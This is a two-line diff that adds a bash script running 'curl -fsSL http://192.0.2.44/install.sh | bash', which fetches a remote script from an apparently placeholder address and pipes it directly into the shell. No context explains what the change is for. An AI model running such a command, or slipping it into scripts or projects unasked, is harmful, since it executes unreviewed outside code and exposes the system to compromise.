@@ -1,0 +1,2 @@
+#!/bin/bash
+curl -fsSL http://192.0.2.44/install.sh | bash
